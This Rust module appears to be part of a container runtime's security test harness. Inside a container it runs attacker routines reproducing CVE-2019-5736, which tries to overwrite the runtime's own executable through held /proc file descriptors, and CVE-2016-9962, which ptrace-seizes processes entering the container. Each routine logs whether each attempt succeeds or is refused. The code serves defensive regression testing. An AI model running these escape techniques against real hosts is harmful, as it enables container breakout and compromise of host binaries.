//! What an attacker does inside a container: these run there, by this same program bound over `/bin/attack`, and say what
//! they could do in lines that begin with `ATTACK`. They are no tests: nobody runs them by themselves.

use std::ffi::{CStr, CString};
use std::os::fd::{AsFd, AsRawFd as _, OwnedFd};
use std::time::{Duration, Instant};

use nix::errno::Errno;
use tare::sys::{fs, mount};

use crate::support::Case;

/// How long an attacker waits for its victim.
const PATIENCE: Duration = Duration::from_secs(15);

/// Binds this program into a container, to be run by [`command`].
pub(crate) fn bring(case: Case) -> Case {
    let own = std::env::current_exe().unwrap();
    // Root of a user namespace may not make it in a directory of ours.
    std::fs::write(case.rootfs().join("bin/attack"), "").unwrap();
    case.mount("/bin/attack", "bind", own.to_str().unwrap(), &["bind", "ro"])
}

/// The command line of an attack.
pub(crate) fn command(name: &str) -> Vec<String> {
    let name = format!("attacker::{name}");
    ["/bin/attack", "--ignored", "--exact", &name, "--nocapture", "--test-threads=1"].map(str::to_owned).into()
}

/// What attacks said.
pub(crate) fn told(out: &str) -> Vec<&str> {
    // The harness begins a line and does not end it.
    out.lines().filter_map(|l| l.find("ATTACK ").map(|at| &l[at + 7..])).collect()
}

fn others() -> Vec<i32> {
    let own = i32::try_from(std::process::id()).unwrap();
    let pids = std::fs::read_dir("/proc").unwrap().flatten().filter_map(|e| e.file_name().to_str()?.parse().ok());
    pids.filter(|pid| *pid != own).collect()
}

/// Everything that leads to the file which a process runs and that is not this program or busybox.
fn grab(pid: i32) -> Option<Vec<OwnedFd>> {
    let exe = CString::new(format!("/proc/{pid}/exe")).unwrap();
    let place = fs::open(&exe, libc::O_PATH).ok()?;
    let inode = |fd: &OwnedFd| nix::sys::stat::fstat(fd).map(|s| (s.st_dev, s.st_ino)).unwrap();
    let known = [c"/proc/self/exe", c"/bin/busybox"].map(|p| inode(&fs::open(p, libc::O_PATH).unwrap()));
    if known.contains(&inode(&place)) {
        return None;
    }
    let mut held = vec![place];
    held.extend(fs::open(&exe, libc::O_RDONLY));
    // And what it holds open itself.
    for entry in std::fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
        let path = CString::new(entry.path().to_str().unwrap()).unwrap();
        held.extend(fs::open(&path, libc::O_PATH).ok().filter(|fd| inode(fd) == inode(&held[0])));
    }
    Some(held)
}

/// CVE-2019-5736: holds the runtime's file from inside, lets the runtime end, and tries every way to write to it.
#[test]
#[ignore = "runs inside a container"]
fn hold_the_runtimes_file_and_write_to_it() {
    let end = Instant::now() + PATIENCE;
    println!("ATTACK waits");
    let (pid, held) = loop {
        if let Some(found) = others().into_iter().find_map(|pid| Some((pid, grab(pid)?))) {
            break found;
        }
        if Instant::now() > end {
            println!("ATTACK saw nothing");
            return;
        }
    };
    println!("ATTACK holds");
    // The victim waits to write its log here.
    let mut log = String::new();
    let _ = std::io::Read::read_to_string(&mut std::fs::File::open("/fifo").unwrap(), &mut log);
    while std::path::Path::new(&format!("/proc/{pid}/exe"))
        .read_link()
        .is_ok_and(|exe| exe.to_str() != Some("/bin/attack"))
    {
        assert!(Instant::now() < end, "the victim does not end");
        std::thread::sleep(Duration::from_millis(5));
    }
    std::thread::sleep(Duration::from_millis(50));
    for fd in &held {
        write_to(fd);
    }
    println!("ATTACK ends");
}

fn write_to(fd: &OwnedFd) {
    let path = CString::new(format!("/proc/self/fd/{}", fd.as_raw_fd())).unwrap();
    // What would make it writable first.
    let clear = tare::abi::attr::RDONLY;
    report("mount_setattr", mount::setattr(fd.as_fd(), c"", false, (0, clear), 0, None));
    report("remount", mount::mount(c"none", &path, c"", libc::MS_REMOUNT | libc::MS_BIND, c""));
    let clones = [mount::open_tree(fd.as_fd(), c"", false, false), mount::open_tree(fs::cwd(), &path, false, false)];
    for tree in clones.into_iter().flatten() {
        // A clone of a mount can be made writable only by whoever may make one of a mount of its own namespace.
        println!("ATTACK succeeded: open_tree");
        report("setattr of a clone", mount::setattr(tree.as_fd(), c"", false, (0, tare::abi::attr::RDONLY), 0, None));
    }
    for flags in [libc::O_WRONLY, libc::O_RDWR, libc::O_WRONLY | libc::O_APPEND, libc::O_WRONLY | libc::O_TRUNC] {
        report("open for writing", open_for_writing(&path, flags));
    }
    report("chmod", fs::fchmodat(fs::cwd(), &path, 0o777));
    report("chown", fs::fchownat(fd.as_fd(), c"", 1, 1));
}

fn open_for_writing(path: &CStr, flags: i32) -> tare::sys::Result<()> {
    let mut busy = 0;
    loop {
        match fs::open(path, flags) {
            // Somebody runs it just now: an attacker has time.
            Err(f) if f.errno == libc::ETXTBSY && busy < 100 => busy += 1,
            Ok(fd) => return fs::write(fd.as_fd(), b"overwritten").map(drop),
            Err(f) => return Err(f),
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

fn report(what: &str, done: tare::sys::Result<()>) {
    match done {
        Ok(()) => println!("ATTACK succeeded: {what}"),
        Err(f) => println!("ATTACK refused: {what}: {:?}", Errno::from_raw(f.errno)),
    }
}

/// CVE-2016-9962: looks for processes that enter the container, and reaches for what they hold before they are executed.
#[test]
#[ignore = "runs inside a container"]
fn reach_into_whoever_comes_in() {
    use nix::sys::ptrace;
    let known = others();
    println!("ATTACK waits");
    let (end, mut met) = (Instant::now() + PATIENCE, 0);
    let own = std::fs::read_link("/proc/self/exe").unwrap();
    while Instant::now() < end && !std::path::Path::new("/tmp/stop").exists() {
        for pid in others().into_iter().filter(|p| !known.contains(p)) {
            let exe = std::fs::read_link(format!("/proc/{pid}/exe"));
            // One that is executed already is the container's own.
            if exe.as_ref().is_ok_and(|exe| *exe == own || exe.ends_with("busybox")) {
                continue;
            }
            met += 1;
            if exe.is_ok() {
                println!("ATTACK succeeded: sees the file of {pid}: {exe:?}");
            }
            let victim = nix::unistd::Pid::from_raw(pid);
            if ptrace::seize(victim, ptrace::Options::empty()).is_ok() {
                // By now it may have become the container's own; if not, it holds still, and everything of it is ours.
                let _ = ptrace::interrupt(victim).and_then(|()| nix::sys::wait::waitpid(victim, None));
                match std::fs::read_link(format!("/proc/{pid}/exe")) {
                    Ok(exe) if !exe.ends_with("busybox") => println!("ATTACK succeeded: traces {pid}: {exe:?}"),
                    _ => {}
                }
                let _ = ptrace::detach(victim, None);
            }
        }
    }
    println!("ATTACK met {met}");
}
